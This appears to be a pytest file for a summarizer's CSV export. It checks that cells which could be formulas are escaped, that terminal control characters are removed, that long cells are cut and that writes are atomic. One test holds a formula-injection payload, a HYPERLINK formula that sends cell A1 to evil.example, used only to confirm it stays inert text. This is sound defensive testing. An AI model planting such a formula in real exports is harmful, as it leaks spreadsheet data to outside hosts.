"""A CSV of items opens in spreadsheets as it is, and runs nothing there."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest

from summarizer import NewsSummary, Result
from summarizer.errors import InputError
from summarizer.reporting.item_rows import item_rows
from summarizer.reporting.spreadsheet import COLUMNS, LONGEST_CELL, as_cell, items_csv
from tests.reporting.wrong_result import a_result
from tests.sample_results import stored_result


def written(path: Path, *results: Result[NewsSummary]) -> list[dict[str, str]]:
    """The rows of a CSV of these results, as a reader finds them."""
    with items_csv(path) as add:
        for result in results:
            add(result)
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def test_every_item_of_every_result_is_a_row(tmp_path: Path) -> None:
    """With the columns that the items have."""
    results = [stored_result(), a_result()]
    rows = written(tmp_path / "items.csv", *results)
    expected = [row for result in results for row in item_rows(result)]
    assert [row["path"] for row in rows] == [row.path for row in expected]
    assert tuple(rows[0]) == COLUMNS
    assert rows[0]["what"] == as_cell(expected[0].what)


def test_the_file_begins_with_a_mark_and_every_cell_is_quoted(tmp_path: Path) -> None:
    """Without the mark spreadsheets take UTF-8 for another encoding."""
    written(tmp_path / "items.csv", a_result())
    raw = (tmp_path / "items.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw[3:].startswith(b'"report_id","title"')


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "  @x",
        "＝1",
        "＋1",
        "－1",
        "＠x",
    ],
)
def test_a_cell_that_could_be_a_formula_is_a_text(text: str) -> None:
    """Whatever a report or a model writes, opening the file runs nothing."""
    assert as_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["a=1", "1-2", "’=", "(–5)", "", "$-5", "’tis"])
def test_other_cells_stay_as_they_are(text: str) -> None:
    """Only the beginning decides."""
    assert as_cell(text) == text


def test_a_cell_steers_no_terminal() -> None:
    """A CSV file is looked at in one too; tabs and line ends of a text stay."""
    assert as_cell("a\x1b[31m\x07b\x9b\u202ec\td\ne") == "a�[31m�b��c\td\ne"


def test_an_attack_in_a_report_stays_a_text(tmp_path: Path) -> None:
    """In the id, the title and what the model wrote."""
    result = a_result()
    attack = '=HYPERLINK("http://evil.example/?"&A1;"click")'
    assert result.summary is not None
    result.summary.claims[0].statement = attack
    result.id = result.report.title = attack
    rows = written(tmp_path / "items.csv", result)
    assert {row["report_id"] for row in rows} == {f"'{attack}"}
    cells = [cell for row in rows for cell in row.values()]
    assert f"'{attack}" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_a_cell_is_never_longer_than_spreadsheets_take() -> None:
    """What is cut off is told."""
    assert as_cell("x" * LONGEST_CELL) == "x" * LONGEST_CELL
    assert as_cell("x" * 40_000) == "x" * LONGEST_CELL + " […]"


def test_what_was_there_stays_when_writing_fails(tmp_path: Path) -> None:
    """A file is there whole or not at all, and nothing else is left."""
    path = tmp_path / "items.csv"
    path.write_text("before", "utf-8")

    def results() -> Iterator[Result[NewsSummary]]:
        yield a_result()
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt), items_csv(path) as add:
        for result in results():
            add(result)
    assert path.read_text("utf-8") == "before"
    assert list(tmp_path.iterdir()) == [path]


def test_a_folder_that_is_not_there_is_told(tmp_path: Path) -> None:
    """One sentence names the file."""
    with (
        pytest.raises(InputError, match=r"cannot write .*items\.csv: No such file"),
        items_csv(tmp_path / "none" / "items.csv"),
    ):
        pass
